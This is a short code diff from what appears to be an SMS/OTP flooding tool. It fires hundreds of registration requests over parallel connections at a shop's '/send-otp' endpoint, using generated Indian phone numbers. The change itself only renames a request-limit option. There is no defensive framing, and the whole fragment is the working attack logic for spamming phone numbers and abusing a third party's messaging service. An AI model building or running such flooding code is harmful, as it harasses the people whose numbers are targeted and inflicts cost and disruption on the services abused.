@@ -16,7 +16,7 @@ export const texts: Flood = {
       const phoneNumber = `+91${number}0{nnnn}`
       const body = { use: 'register', phoneNumber, email: `sms{nnnn}.${number}@example.in` }
       const requests = [posting('/send-otp', body, { from })]
-      return attack({ url: shopUrl, requests, connections: 10, most: 300 }, ends)
+      return attack({ url: shopUrl, requests, connections: 10, max: 300 }, ends)
     })
     await Promise.all(attacks)
   },
